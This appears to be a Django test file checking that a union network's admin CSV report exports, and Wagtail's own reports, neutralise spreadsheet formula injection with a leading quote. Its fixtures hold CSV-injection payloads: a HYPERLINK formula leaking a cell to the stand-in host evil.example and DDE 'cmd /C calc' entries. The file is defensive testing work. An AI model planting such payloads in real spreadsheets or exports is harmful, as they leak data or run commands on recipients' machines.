"""CSV exports cannot carry a spreadsheet formula (OWASP «CSV Injection»): a text cell that
starts with =, +, -, @, a tab or a carriage return is written with a leading single quote,
so Excel or LibreOffice shows it as text instead of running it. Numbers, dates and empty
cells stay as they are, and the XLSX exports (text cells typed as text) are unchanged.

Every CSV export is covered: the three freshness reports in the admin, downloaded by a
regional admin through their real URLs, and `manage.py freshness_report --format csv`."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from sites.freshness import exports
from sites.network.roles import ensure_regional_admins_group

from .. import factories

pytestmark = pytest.mark.django_db

FRESHNESS_URL = "/admin/reports/freshness/"
COVERAGE_URL = "/admin/reports/freshness/coverage/"
REPORTS_URL = "/admin/reports/freshness/reports/"

# Short name (the coverage table shows it) and full name (the other exports) of each
# organization, by its registry code.
EVIL = {
    "46-01": (
        '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    "46-02": ("+7 (47148) 2-61-15", "-2+3+cmd|' /C calc'!A0"),
    "46-03": ("\tТабуляция", "\rВозврат каретки"),
}
SAFE_NAME = "Курская областная организация Общероссийского Профсоюза образования"


@pytest.fixture
def evil_region():
    regional = factories.regional_organization()
    for code, (short_name, name) in EVIL.items():
        territorial = factories.TerritorialOrganizationFactory(
            code=code, short_name=short_name, name=name, parent=regional
        )
        factories.PrimaryOrganizationFactory(code=f"{code}-001", parent=territorial)
    return regional


@pytest.fixture
def admin_client(client, django_user_model):
    user = django_user_model.objects.create_user("regional-admin", password="x")
    user.groups.add(ensure_regional_admins_group())
    client.force_login(user)
    return client


def download(client, url, export="csv"):
    response = client.get(url, {"export": export})
    assert response.status_code == 200
    return b"".join(response.streaming_content if response.streaming else [response.content])


def csv_rows(data):
    """The rows as dictionaries, by the first column (the code, or the coverage's name)."""
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text, newline="")))


def quoted(value):
    return "'" + value


# The helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Железногорская", "Железногорская"),
        ("46-01", "46-01"),  # a dash inside is harmless
        ("", ""),
        (" =1", " =1"),  # a formula must start the cell
        (-5, -5),  # numbers stay numbers
        (0, 0),
        (Decimal("-2.5"), Decimal("-2.5")),
        (None, None),
    ],
)
def test_the_helper_quotes_only_text_that_starts_a_formula(value, written):
    assert exports.csv_cell(value) == written
    assert type(exports.csv_cell(value)) is type(written)


# The admin's exports -------------------------------------------------------------------------


def test_freshness_report_csv_quotes_formulas(admin_client, evil_region):
    rows = {row["code"]: row for row in csv_rows(download(admin_client, FRESHNESS_URL))}
    for code, (_short_name, name) in EVIL.items():
        assert rows[code]["name"] == quoted(name)
    assert rows["46-0000"]["name"] == SAFE_NAME  # ordinary text untouched
    assert rows["46-01-001"]["parent_code"] == "46-01"
    assert rows["46-01"]["news_90d"] == "0" and rows["46-01"]["editors"] == "0"
    assert rows["46-01"]["last_update"] == ""


def test_coverage_csv_quotes_formulas(admin_client, evil_region):
    data = csv_rows(download(admin_client, COVERAGE_URL))
    rows = {row["Территориальная организация"]: row for row in data}
    for short_name, _name in EVIL.values():
        assert quoted(short_name) in rows, rows.keys()
        assert short_name not in rows
    line = rows[quoted(EVIL["46-01"][0])]
    figures = ("Первичных организаций", "С сайтом", "Доля с сайтом, %")
    assert [line[heading] for heading in figures] == ["1", "0", "0.0"]  # numbers stay numbers
    assert rows["Итого по области"]["Первичных организаций"] == "3"


def test_public_reports_csv_quotes_formulas(admin_client, evil_region):
    rows = {row["code"]: row for row in csv_rows(download(admin_client, REPORTS_URL))}
    for code, (_short_name, name) in EVIL.items():
        assert rows[code]["name"] == quoted(name)
    assert rows["46-01"]["published"] == "нет"


def test_xlsx_keeps_the_text_as_it_is(admin_client, evil_region):
    workbook = openpyxl.load_workbook(io.BytesIO(download(admin_client, FRESHNESS_URL, "xlsx")))
    sheet = workbook.active
    header, *lines = sheet.iter_rows(values_only=True)
    names = {line[header.index("code")]: line[header.index("name")] for line in lines}
    assert names["46-01"] == EVIL["46-01"][1]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["46-01"].data_type == "s"  # text, not a formula


# The command ---------------------------------------------------------------------------------


def test_command_csv_quotes_formulas(evil_region, tmp_path):
    out = io.StringIO()
    call_command("freshness_report", "--format", "csv", stdout=out)
    rows = {row["code"]: row for row in csv_rows(out.getvalue())}
    for code, (_short_name, name) in EVIL.items():
        assert rows[code]["name"] == quoted(name)
    assert rows["46-0000"]["name"] == SAFE_NAME

    path = tmp_path / "freshness.csv"
    call_command("freshness_report", "--format", "csv", "--output", str(path), stdout=io.StringIO())
    assert path.read_bytes().decode("utf-8") == out.getvalue()


def test_wagtails_own_reports_quote_formulas_too(admin_client, db):
    """The locked pages report of Wagtail (and every report on its export mixin): a page
    title is whatever an editor typed."""
    from django.utils.timezone import now
    from wagtail.models import Page

    from sites.onboarding import services as onboarding

    onboarding.site_template()
    organization = factories.PrimaryOrganizationFactory()
    onboarding.onboard(organization)
    organization.refresh_from_db()
    home = Page.objects.get(pk=organization.home_page_id)
    locked = home.add_child(instance=Page(title='=HYPERLINK("http://evil")', slug="locked"))
    Page.objects.filter(pk=locked.pk).update(locked=True, locked_at=now())
    rows = csv_rows(download(admin_client, "/admin/reports/locked/"))
    titles = [row[next(iter(row))] for row in rows]
    assert """'=HYPERLINK("http://evil")""" in titles, titles
